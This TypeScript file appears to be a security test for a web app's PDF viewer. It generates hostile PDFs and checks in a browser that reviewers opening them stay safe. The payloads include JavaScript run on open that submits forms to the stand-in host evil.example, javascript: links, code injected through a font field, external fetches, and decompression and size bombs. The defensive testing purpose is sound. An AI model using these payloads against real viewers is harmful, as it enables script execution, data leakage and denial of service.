import { makePdf, pageWith, pdfStream, rawPdfStream } from "#tests/pdf/make-pdf.ts";
import { newProfile, openBrowser, visit } from "../e2e/harness/browser.ts";
import type { AttackOptions, AttackRow } from "./attack.ts";
import { sendIdea } from "./requests/send.ts";
import { as, call, ownerOf } from "./requests/staff.ts";

const BEFORE = "not tried";
/** Until the page shows the file, or says that it cannot. */
const SHOWN_MAX_MS = 20_000;
/** The longest time for which the reviewer's page may not hear a key. */
const BLOCKED_MAX_MS = 500;
const MB = 1024 * 1024;
const script = "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\)) >>";
const annotation = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> /AA << /PO ${script} >> >>]`;

const files: Record<string, () => Buffer> = {
  "a script that runs on opening": () =>
    makePdf({ ...pageWith("Uma ideia"), catalogue: `/OpenAction ${script}` }),
  "a link to a script over the whole page": () => {
    const { objects, page } = pageWith("Uma ideia");
    return makePdf({ objects, page: `${page} ${annotation("/S /URI /URI (javascript:window.hit=1)")}` });
  },
  "a font whose name is code": () => {
    const { objects, page } = pageWith("Uma ideia");
    const matrix = "/FontMatrix [1 0 0 1 0 (0\\); window.hit=1; \\(0)]";
    return makePdf({
      objects: [objects[0] ?? "", `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${matrix} >>`],
      page,
    });
  },
  "a form that sends itself away": () =>
    makePdf({
      ...pageWith("Uma ideia"),
      catalogue: "/AcroForm << /XFA (<xdp><submit target='https://evil.example/'/></xdp>) /Fields [] >>",
    }),
  "a picture from another site": () =>
    makePdf({
      objects: [
        pdfStream("", "q 595 0 0 842 0 0 cm /X Do Q"),
        rawPdfStream(
          "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /FFilter [] /F << /FS /URL /F (https://evil.example/x.png) >>",
          Buffer.from([0, 0, 0]),
        ),
      ],
      page: "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>",
    }),
  "a picture of 60,000 by 60,000 points": () =>
    makePdf({
      objects: [
        pdfStream("", "q 595 0 0 842 0 0 cm /X Do Q"),
        pdfStream(
          "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1",
          Buffer.alloc(MB),
        ),
      ],
      page: "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>",
    }),
  "a page of a million by a million points": () =>
    makePdf({ ...pageWith("Uma ideia"), pages: "/MediaBox [0 0 1000000 1000000]" }),
  "a bomb of 200 MB as the page": () =>
    makePdf({ objects: [pdfStream("", Buffer.alloc(200 * MB, " "))], page: "/Contents 4 0 R" }),
  "a page that holds itself": () =>
    makePdf({
      objects: [
        pdfStream("", "/X Do"),
        rawPdfStream(
          "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
          Buffer.from("/X Do /X Do"),
        ),
      ],
      page: "/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>",
    }),
};

/** Strangers' files in a reviewer's browser: nothing runs, no dialog asks the reviewer, and the page goes on. */
export async function attack({ url, short }: AttackOptions): Promise<AttackRow[]> {
  if (short) return [];
  const owner = await ownerOf(url);
  const storage = { token: owner.token, email: owner.email, expiry: "2100-01-01T00:00:00Z" };
  const { json: edition } = await call<{ year: number }>(url, null, "GET", "/edition/");
  const browser = await openBrowser();
  try {
    const rows: AttackRow[] = [];
    for (const [what, make] of Object.entries(files)) {
      const id = await newIdeaWith(url, as(owner), make());
      const context = await newProfile(browser, url, { storage });
      const seen = await look(context, url, `/organiser/${edition.year}/idea-reviews/${id}`);
      await context.close();
      rows.push({ tried: `A reviewer opens a PDF with ${what}`, before: BEFORE, ...seen });
    }
    return rows;
  } finally {
    await browser.close();
  }
}

async function newIdeaWith(url: string, owner: string, file: Buffer): Promise<string> {
  const list = async () => {
    const { json } = await call<{ results: { id: string }[] }>(
      url,
      owner,
      "GET",
      "/organiser/editions/1/ideas/",
    );
    return json.results.map(({ id }) => id);
  };
  const before = new Set(await list());
  const { status } = await sendIdea(url, { file });
  const id = (await list()).find((one) => !before.has(one));
  if (!id) throw new Error(`The idea was refused with ${status}`);
  return id;
}

async function look(context: Awaited<ReturnType<typeof newProfile>>, url: string, address: string) {
  const faults: string[] = [];
  context.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (protocol !== "blob:" && host !== new URL(url).host) faults.push(`asks ${request.url()}`);
  });
  context.on("page", (page) => faults.push(...(context.pages().length > 1 ? [`opens ${page.url()}`] : [])));
  const page = await context.newPage();
  page.on("dialog", (dialog) => faults.push(`says "${dialog.message()}"`));
  page.on("pageerror", (error) => faults.push(error.message));
  await visit(page, address);
  await page.evaluate(() => {
    let last = performance.now();
    Object.assign(window, { longest: 0 });
    setInterval(() => {
      const now = performance.now();
      Object.assign(window, { longest: Math.max((window as { longest?: number }).longest ?? 0, now - last) });
      last = now;
    }, 20);
  });
  const began = performance.now();
  await page.getByRole("button", { name: "Ver PDF" }).click();
  const shown = page.getByRole("img", { name: /página 1 de/ }).or(page.getByRole("alert"));
  await shown
    .first()
    .waitFor({ timeout: SHOWN_MAX_MS })
    .catch(() => faults.push("shows nothing"));
  const ms = Math.round(performance.now() - began);
  const drawn = page.getByRole("img", { name: /página 1 de/ });
  if ((await drawn.count()) > 0) await drawn.first().click({ position: { x: 20, y: 20 } });
  // The viewer may still be drawing, and block the page yet.
  await page.waitForTimeout(2_000);
  const { hit, longest } = await page.evaluate(() => ({
    hit: "hit" in window,
    longest: Math.round((window as { longest?: number }).longest ?? 0),
  }));
  if (hit) faults.push("runs");
  if (longest > BLOCKED_MAX_MS) faults.push("blocks the page");
  const how = (await drawn.count()) > 0 ? "drawn" : "said not to be readable";
  return {
    now: [`${how} after ${ms} ms; the page was blocked for ${longest} ms`, ...faults].join("; "),
    passed: faults.length === 0,
  };
}
